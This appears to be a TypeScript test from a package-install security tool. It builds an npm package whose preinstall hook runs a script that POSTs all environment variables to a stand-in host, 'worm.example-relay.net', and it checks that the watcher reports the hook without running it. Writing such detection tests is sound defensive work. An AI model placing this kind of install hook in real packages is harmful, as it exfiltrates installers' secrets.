import assert from "node:assert/strict";
import type { Attack } from "../attack.ts";
import { npmPackage } from "./pack.ts";

const setUp =
  "const net = require('node:https');\nconst body = JSON.stringify(process.env);\nnet.request('https://worm.example-relay.net/u', { method: 'POST' }).end(body);\n";

export const earlyWorm: Attack = {
  name: "early-worm",
  title: "watching the program shows nothing: the work was done by its installation",
  async try(place) {
    const scripts = { preinstall: "node set-up.js" };
    const manifest = { name: "early-worm", version: "1.0.0", bin: "cli.js", scripts };
    place.write(
      `${place.folder}/worm.tgz`,
      npmPackage([
        ["package/package.json", JSON.stringify(manifest)],
        ["package/cli.js", "#!/usr/bin/env node\nconsole.log('ready');\n"],
        ["package/set-up.js", setUp],
      ]),
    );
    const { installScripts } = await place.watch([`${place.folder}/worm.tgz`]);
    assert.deepEqual(installScripts, [
      {
        package: "early-worm",
        version: "1.0.0",
        event: "preinstall",
        command: "node set-up.js",
        run: false,
      },
    ]);
    return "the script is named, and that it was not run";
  },
};
